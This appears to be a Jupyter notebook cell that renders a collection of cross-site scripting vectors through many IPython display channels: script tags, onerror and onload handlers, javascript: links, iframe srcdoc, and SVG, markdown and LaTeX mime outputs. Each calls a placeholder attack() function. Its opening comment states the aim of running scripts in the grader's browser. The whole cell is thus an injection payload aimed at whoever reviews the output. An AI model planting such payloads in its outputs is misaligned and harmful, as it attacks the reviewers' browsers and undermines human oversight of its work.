# Shows HTML with scripts, to run in the browser of whoever grades. Keeps: a b.
# %% step_c
from IPython.display import HTML, Javascript, SVG, display

display(HTML("<script>attack()</script><img src=x onerror=attack()><a href='javascript:attack()'>x</a>"))
display(HTML("<iframe srcdoc='<script>attack()</script>'></iframe><svg onload=attack()></svg>"))
display(Javascript("attack()"), {"text/html": "<body onload=attack()>"}, raw=False)
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='attack()'></svg>",
         "text/markdown": "<script>attack()</script>", "text/latex": "$<script>attack()</script>$"}, raw=True)
